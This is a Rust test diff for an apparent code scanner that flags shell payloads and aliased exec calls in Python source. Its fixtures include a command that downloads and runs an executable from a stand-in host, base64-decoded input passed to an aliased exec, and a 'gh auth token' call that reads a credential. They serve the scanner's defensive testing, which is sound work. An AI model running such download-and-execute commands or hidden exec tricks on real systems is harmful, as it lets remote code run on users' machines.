@@ -249,8 +249,43 @@ fn command_lines_handed_to_a_shell_are_shell_payloads() {
         .filter(|r| r.shell)
         .map(|r| r.code.as_str())
         .collect();
+    // Each command line on its own (short ones are not), then every line the module runs as one script.
     assert_eq!(
         shells,
-        ["cd C:/ && curl -s https://dl.example.invalid/h -o C:/Users/Public/helper.exe && C:/Users/Public/helper.exe\n"]
+        [
+            "cd C:/ && curl -s https://dl.example.invalid/h -o C:/Users/Public/helper.exe && C:/Users/Public/helper.exe\n",
+            "cd C:/ && curl -s https://dl.example.invalid/h -o C:/Users/Public/helper.exe && C:/Users/Public/helper.exe\nls -l\nclear\n"
+        ]
     );
+}
+
+#[test]
+fn an_exec_reached_through_an_alias_is_also_written_with_its_arguments_as_written() {
+    let found = python(concat!(
+        "import base64\n",
+        "show, text, seq = exec, str, tuple\n",
+        "show(base64.b64decode(\"cHJpbnQoJ2hpJyk=\"))\n",
+    ));
+    assert!(
+        found.contains(&"exec(base64.b64decode(\"cHJpbnQoJ2hpJyk=\"))".to_string()),
+        "{found:?}"
+    );
+    // Known bytes handed to the aliased exec are code: rescanned as a payload.
+    let bytes = python("run = exec\nrun(bytes([112, 114, 105, 110, 116, 40, 41]))\n");
+    assert!(bytes.contains(&"print()".to_string()), "{bytes:?}");
+    // Written as exec itself, the call is already what the rules read: nothing is added.
+    let plain = python("import base64\nexec(base64.b64decode(blob))\n");
+    assert!(plain.is_empty(), "{plain:?}");
+    // An alias of something that is not an exec sink is not re-written as one.
+    let other = python("show = print\nshow(base64.b64decode(blob))\n");
+    assert!(other.iter().all(|r| !r.starts_with("exec")), "{other:?}");
+}
+
+#[test]
+fn an_argument_vector_alone_is_not_a_shell_payload() {
+    // One program with its arguments is read where it is written; it joins the module's script only.
+    let text = "import subprocess\nsubprocess.run(['gh', 'auth', 'token', '--hostname', 'example.invalid'])\n";
+    let tree = parse(Grammar::Python, text).unwrap();
+    let resolved = evaluate_tree(tree.root_node(), text, Grammar::Python);
+    assert!(resolved.renditions.iter().all(|r| !r.shell));
 }
